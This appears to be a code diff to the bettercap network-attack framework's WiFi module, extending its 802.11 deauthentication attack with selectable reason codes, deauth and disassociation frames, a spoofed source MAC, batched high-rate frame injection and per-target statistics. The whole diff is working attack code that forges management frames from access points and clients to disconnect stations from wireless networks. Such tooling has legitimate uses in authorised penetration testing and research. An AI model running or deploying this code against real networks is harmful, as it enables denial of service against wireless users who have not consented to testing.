@@ -10,69 +10,207 @@ import (
 	"github.com/bettercap/bettercap/log"
 	"github.com/bettercap/bettercap/network"
 	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket/layers"
 )
 
-func (w *WiFiModule) injectPacket(data []byte) {
+// reason codes defined by IEEE 802.11-2016, 0 is reserved
+const (
+	minDeauthReason = 1
+	maxDeauthReason = 66
+)
+
+// deauthFrames describes which frames the attack sends and with what reason.
+type deauthFrames struct {
+	deauth   bool
+	disassoc bool
+	reason   layers.Dot11Reason
+}
+
+// WiFiDeauthStats is the payload of wifi.deauth.stats events.
+type WiFiDeauthStats struct {
+	Frames   int           `json:"frames"`
+	Errors   int           `json:"errors"`
+	Batch    int           `json:"batch"`
+	Duration time.Duration `json:"duration"`
+	FPS      float64       `json:"fps"`
+}
+
+func (w *WiFiModule) writePacket(data []byte) error {
+	if w.Session.Queue.DryRun(w.handle.LinkType(), data) {
+		return nil
+	}
 	if err := w.handle.WritePacketData(data); err != nil {
-		log.Error("cloud not inject WiFi packet: %s", err)
 		w.Session.Queue.TrackError()
-	} else {
-		w.Session.Queue.TrackSent(uint64(len(data)))
+		return err
+	}
+	w.FrameSent()
+	w.Session.Queue.TrackSent(uint64(len(data)))
+	w.Session.Queue.Record(w.handle.LinkType(), data)
+	return nil
+}
+
+func (w *WiFiModule) injectPacket(data []byte) {
+	if err := w.writePacket(data); err != nil {
+		log.Error("cloud not inject WiFi packet: %s", err)
 	}
 	// let the network card breath a little
 	time.Sleep(10 * time.Millisecond)
 }
 
-func (w *WiFiModule) sendDeauthPacket(ap net.HardwareAddr, client net.HardwareAddr) {
-	for seq := uint16(0); seq < 64 && w.Running(); seq++ {
-		if err, pkt := packets.NewDot11Deauth(ap, client, ap, seq); err != nil {
+func (w *WiFiModule) parseDeauthFrames() (error, deauthFrames) {
+	frames := deauthFrames{}
+
+	err, reason := w.IntParam("wifi.deauth.reason")
+	if err != nil {
+		return err, frames
+	} else if reason < minDeauthReason || reason > maxDeauthReason {
+		return fmt.Errorf("wifi.deauth.reason must be an 802.11 reason code between %d and %d", minDeauthReason, maxDeauthReason), frames
+	}
+	frames.reason = layers.Dot11Reason(reason)
+
+	err, variant := w.StringParam("wifi.deauth.type")
+	if err != nil {
+		return err, frames
+	}
+	frames.deauth = variant == "deauth" || variant == "both"
+	frames.disassoc = variant == "disassoc" || variant == "both"
+
+	return nil, frames
+}
+
+func (f deauthFrames) build(a1 net.HardwareAddr, a2 net.HardwareAddr, a3 net.HardwareAddr, seq uint16) [][]byte {
+	frames := make([][]byte, 0, 2)
+	if f.deauth {
+		if err, pkt := packets.NewDot11DeauthWithReason(a1, a2, a3, seq, f.reason); err != nil {
 			log.Error("cloud not create deauth packet: %s", err)
-			continue
 		} else {
-			w.injectPacket(pkt)
+			frames = append(frames, pkt)
 		}
-
-		if err, pkt := packets.NewDot11Deauth(client, ap, ap, seq); err != nil {
-			log.Error("cloud not create deauth packet: %s", err)
-			continue
+	}
+	if f.disassoc {
+		if err, pkt := packets.NewDot11Disassoc(a1, a2, a3, seq, f.reason); err != nil {
+			log.Error("could not create disassoc packet: %s", err)
 		} else {
-			w.injectPacket(pkt)
+			frames = append(frames, pkt)
+		}
+	}
+	return frames
+}
+
+func (w *WiFiModule) sendDeauthPacket(ap net.HardwareAddr, client net.HardwareAddr, src net.HardwareAddr, kind deauthFrames, stats *WiFiDeauthStats) {
+	// by default each frame pretends to come from the other side
+	fromClient, fromAP := client, ap
+	if src != nil {
+		fromClient, fromAP = src, src
+	}
+
+	// build every frame first, so that batches are sent back to back
+	frames := make([][]byte, 0, 256)
+	for seq := uint16(0); seq < 64; seq++ {
+		frames = append(frames, kind.build(ap, fromClient, ap, seq)...)
+		frames = append(frames, kind.build(client, fromAP, ap, seq)...)
+	}
+
+	for i := 0; i < len(frames) && w.WaitIfPaused(); {
+		end := i + stats.Batch
+		if end > len(frames) {
+			end = len(frames)
+		}
+
+		for ; i < end; i++ {
+			if err := w.writePacket(frames[i]); err != nil {
+				stats.Errors++
+				if stats.Batch > 1 {
+					// the driver queue can't keep up with the batch, resume
+					// from the frame that failed one at a time
+					log.Warning("could not inject a batch of %d frames (%s), falling back to single frame writes.", stats.Batch, err)
+					stats.Batch = 1
+					break
+				}
+				log.Error("cloud not inject WiFi packet: %s", err)
+			} else {
+				stats.Frames++
+			}
 		}
+
+		// let the network card breath a little
+		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// deauthOptions returns the source address, the batch size and the frames
+// of the deauth attacks.
+func (w *WiFiModule) deauthOptions() (error, net.HardwareAddr, int, deauthFrames) {
+	err, value := w.StringParam("wifi.deauth.srcmac")
+	if err != nil {
+		return err, nil, 0, deauthFrames{}
+	}
+
+	src, err := parseSourceMAC(value)
+	if err != nil {
+		return err, nil, 0, deauthFrames{}
+	}
+
+	err, batch := w.IntParam("wifi.deauth.batch")
+	if err != nil {
+		return err, nil, 0, deauthFrames{}
+	} else if batch < 1 {
+		batch = 1
 	}
+
+	err, kind := w.parseDeauthFrames()
+	if err != nil {
+		return err, nil, 0, deauthFrames{}
+	}
+
+	return nil, src, batch, kind
 }
 
 func (w *WiFiModule) startDeauth(to net.HardwareAddr) error {
+	err, src, batch, kind := w.deauthOptions()
+	if err != nil {
+		return err
+	}
+
 	// if not already running, temporarily enable the pcap handle
 	// for packet injection
 	if !w.Running() {
 		if err := w.Configure(); err != nil {
 			return err
 		}
-		defer w.handle.Close()
+		defer w.closeCaptures()
 	}
 
 	w.writes.Add(1)
 	defer w.writes.Done()
 
-	type flow struct {
-		Ap     *network.AccessPoint
-		Client *network.Station
+	err, coalesce := w.BoolParam("wifi.deauth.coalesce")
+	if err != nil {
+		return err
 	}
 
-	toDeauth := make([]flow, 0)
+	toDeauth := make([]deauthFlow, 0)
 	isBcast := network.IsBroadcastMac(to)
 	for _, ap := range w.Session.WiFi.List() {
 		isAP := bytes.Equal(ap.HW, to)
 		for _, client := range ap.Clients() {
 			if isBcast || isAP || bytes.Equal(client.HW, to) {
-				toDeauth = append(toDeauth, flow{Ap: ap, Client: client})
+				toDeauth = append(toDeauth, deauthFlow{Ap: ap, Client: client})
 			}
 		}
 	}
 
+	if coalesce {
+		toDeauth = coalesceDeauthFlows(toDeauth)
+	}
+
 	if len(toDeauth) == 0 {
 		return fmt.Errorf("%s is an unknown BSSID or doesn't have detected clients.", to.String())
 	}
+	if err := w.Session.CheckTargets("wifi.deauth", len(toDeauth)); err != nil {
+		return err
+	}
 
 	// since we need to change the wifi adapter channel for each
 	// deauth packet, let's sort by channel so we do the minimum
@@ -81,17 +219,30 @@ func (w *WiFiModule) startDeauth(to net.HardwareAddr) error {
 		return toDeauth[i].Ap.Channel() < toDeauth[j].Ap.Channel()
 	})
 
+	w.addDeauthTargets(toDeauth)
+	defer w.removeDeauthTargets(toDeauth)
+
 	// send the deauth frames
+	stats := WiFiDeauthStats{Batch: batch}
+	started := time.Now()
 	for _, deauth := range toDeauth {
 		client := deauth.Client
 		ap := deauth.Ap
 		if w.Running() {
 			log.Info("deauthing client %s from AP %s (channel %d)", client.String(), ap.ESSID(), ap.Channel())
 			w.onChannel(ap.Channel(), func() {
-				w.sendDeauthPacket(ap.HW, client.HW)
+				sent := stats.Frames
+				w.sendDeauthPacket(ap.HW, client.HW, src, kind, &stats)
+				w.DeauthTargets.Sent(ap, client.HwAddress, stats.Frames-sent)
 			})
 		}
 	}
 
+	stats.Duration = time.Since(started)
+	if secs := stats.Duration.Seconds(); secs > 0 {
+		stats.FPS = float64(stats.Frames) / secs
+	}
+	w.Session.Events.Add("wifi.deauth.stats", stats)
+
 	return nil
 }